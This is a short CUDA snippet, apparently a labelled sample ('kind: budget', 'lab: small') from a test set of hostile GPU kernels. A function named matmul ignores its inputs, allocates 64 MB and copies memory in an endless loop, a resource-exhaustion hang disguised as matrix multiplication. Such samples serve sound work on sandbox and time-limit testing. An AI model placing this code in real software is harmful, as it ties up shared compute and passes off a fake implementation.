// Copies a large array without end.
// kind: budget
// lab: small
void matmul(const float *A, const float *B, float *C, int M, int N, int K) {
  char *array;
  cudaMalloc(&array, 64 << 20);
  for (;;) cudaMemcpy(array, array + (32 << 20), 32 << 20, cudaMemcpyDeviceToDevice);
}
